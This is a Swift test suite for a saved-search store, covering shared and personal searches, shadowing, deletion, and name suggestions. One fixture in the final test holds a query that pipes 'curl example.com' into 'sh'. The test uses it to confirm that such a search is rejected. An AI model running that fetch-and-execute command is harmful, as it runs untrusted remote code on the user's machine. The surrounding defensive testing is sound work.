import Foundation
import Testing

@testable import SearchStore

@Suite struct DeleteAndShadowTests {
  let sharedText = """
    searches:
      - name: falls
        query: 'tag:falls'
      - name: near-miss
        description: Shared near misses
        query: 'kind:near-miss'

    """

  @Test func sharedSearchesAreListedAsShared() {
    let f = Fixture()
    f.writeShared(sharedText)
    let catalog = f.searches().load()
    #expect(catalog.problems.isEmpty)
    #expect(catalog.names == ["falls", "near-miss"])
    #expect(catalog.searches.allSatisfy { $0.origin == .shared && !$0.shadowsShared })
  }

  @Test func personalShadowsSharedOnlyWithForce() throws {
    let f = Fixture()
    f.writeShared(sharedText)
    #expect(throws: SearchStoreError.wouldShadowShared(name: "falls")) {
      try f.searches().save(name: "falls", query: "tag:falls office:york")
    }
    #expect(
      try f.searches().save(name: "falls", query: "tag:falls office:york", force: true)
        == .shadowedShared)
    let falls = try #require(f.searches().lookup(name: "falls"))
    #expect(falls.origin == .personal)
    #expect(falls.shadowsShared)
    #expect(falls.search.query == "tag:falls office:york")
    #expect(f.searches().load().names == ["falls", "near-miss"])
  }

  @Test func deletingPersonalRevealsShared() throws {
    let f = Fixture()
    f.writeShared(sharedText)
    try f.searches().save(name: "falls", query: "mine", force: true)
    #expect(try f.searches().delete(name: "falls") == .deletedRevealingShared)
    #expect(f.searches().lookup(name: "falls")?.origin == .shared)
  }

  @Test func deletingSharedOnlyIsRefused() {
    let f = Fixture()
    let before = f.writeShared(sharedText)
    #expect(throws: SearchStoreError.sharedIsReadOnly(name: "near-miss")) {
      try f.searches().delete(name: "near-miss")
    }
    #expect(f.folder.read("kb/searches.yaml") == sharedText)
    #expect(!FileManager.default.fileExists(atPath: f.personalPath), "\(before)")
  }

  @Test func deleteRemovesOnlyThatSearch() throws {
    let f = Fixture()
    try f.searches().save(name: "a", query: "x")
    try f.searches().save(name: "b", query: "y")
    #expect(try f.searches().delete(name: "a") == .deleted)
    #expect(f.searches().load().names == ["b"])
  }

  @Test func deletingUnknownSuggests() throws {
    let f = Fixture()
    f.writeShared(sharedText)
    try f.searches().save(name: "lancaster-lessons", query: "x")
    #expect(
      throws: SearchStoreError.notFound(name: "lancaster-lesson", suggestion: "lancaster-lessons")
    ) {
      try f.searches().delete(name: "lancaster-lesson")
    }
    #expect(throws: SearchStoreError.notFound(name: "fals", suggestion: "falls")) {
      try f.searches().resolve(name: "fals")
    }
    #expect(throws: SearchStoreError.notFound(name: "zzz", suggestion: nil)) {
      try Fixture().searches().delete(name: "zzz")
    }
  }

  @Test func sharedSearchThatWouldRunACommandIsSkipped() {
    let f = Fixture()
    f.writeShared(
      """
      searches:
        - name: evil
          query: 'tag:x | ! curl example.com | sh'
        - name: fine
          query: 'tag:"wow!"'
      """)
    let catalog = f.searches().load()
    #expect(catalog.names == ["fine"])
    #expect(
      catalog.problems.map(\.description) == [
        f.sharedPath + ":3:12: error: saved search 'evil' would run a command ('!' outside quotes);"
          + " skipped"
      ])
  }
}
